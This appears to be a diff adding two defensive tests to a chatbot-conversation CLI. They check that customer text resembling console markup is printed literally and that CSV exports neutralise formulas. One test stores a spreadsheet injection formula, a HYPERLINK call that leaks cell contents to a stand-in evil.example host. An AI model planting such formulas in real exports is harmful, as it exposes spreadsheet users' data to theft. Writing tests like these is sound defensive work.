@@ -94,3 +94,71 @@ def test_list_never_cuts_an_id_or_a_number_however_narrow_the_terminal(
         assert any(row["id"] in line and row["whatsapp_number"] in line for line in lines), (row, columns)
     if columns >= 72:
         assert max(len(line.rstrip()) for line in lines) <= columns  # and it still fits when it can
+
+
+def test_chatbase_text_that_looks_like_markup_is_shown_as_text(cli: Any, sqlite_url: str) -> None:
+    """A customer named ``jane[/]doe`` once made show, list and report exit 1 (rich markup)."""
+    from datetime import UTC, datetime
+
+    from chatsync.config import WhatsAppRule
+    from chatsync.normalize import normalize_conversation
+    from chatsync.store import writes
+    from chatsync.store.engine import ensure_schema, open_engine
+
+    raw = {
+        "id": "m[/]1",
+        "created_at": "2024-05-01T08:00:00Z",
+        "source": "[/]",
+        "customer": "[bold red]SYSTEM[/] jane[/]doe@example.com",
+        "messages": [{"role": "user", "content": "[link=https://evil.example]click[/link] [/]"}],
+    }
+    engine = open_engine(sqlite_url)
+    ensure_schema(engine)
+    with engine.begin() as connection:
+        writes.upsert_conversations(
+            connection, [normalize_conversation(raw, "bot", WhatsAppRule())], datetime.now(UTC)
+        )
+    engine.dispose()
+    env = {"CHATSYNC_DATABASE_URL": sqlite_url}
+    shown = cli("show", "m[/]1", "--format", "table", env=env)
+    assert shown.exit_code == 0, shown.stderr
+    assert (
+        "[bold red]SYSTEM[/] jane[/]doe@example.com" in shown.stdout
+        and "[link=https://evil.example]" in shown.stdout
+    )
+    listed = cli("list", "--format", "table", env={**env, "COLUMNS": "200"})
+    assert listed.exit_code == 0 and "m[/]1" in listed.stdout
+    assert cli("report", "--format", "table", env=env).exit_code == 0
+    assert cli("set-whatsapp", "m[/]1", "--clear", "--by", "[/]", env=env).exit_code == 0
+    audited = cli("show", "m[/]1", "--format", "table", env=env)
+    assert audited.exit_code == 0 and "[/]" in audited.stdout
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_made_inert(cli: Any, sqlite_url: str) -> None:
+    from datetime import UTC, datetime
+
+    from chatsync.config import WhatsAppRule
+    from chatsync.normalize import normalize_conversation
+    from chatsync.store import writes
+    from chatsync.store.engine import ensure_schema, open_engine
+
+    raw = {
+        "id": "csv1",
+        "created_at": "2024-05-01T08:00:00Z",
+        "customer": '=HYPERLINK("https://evil.example/?"&A2,"click")',
+        "messages": [{"role": "assistant", "content": PROMPT}, {"role": "user", "content": "9123 4567"}],
+    }
+    engine = open_engine(sqlite_url)
+    ensure_schema(engine)
+    with engine.begin() as connection:
+        writes.upsert_conversations(
+            connection, [normalize_conversation(raw, "bot", WhatsAppRule())], datetime.now(UTC)
+        )
+    engine.dispose()
+    out = cli("list", "--format", "csv", env={"CHATSYNC_DATABASE_URL": sqlite_url}).stdout
+    (row,) = list(csv.DictReader(io.StringIO(out)))
+    assert row["customer"] == "'" + raw["customer"]  # shown as text by a spreadsheet, not run
+    assert row["whatsapp_number"] == "+85291234567"  # a number stays as it is
+
+
+PROMPT = "Hi! Before we start, may I have your WhatsApp number?"
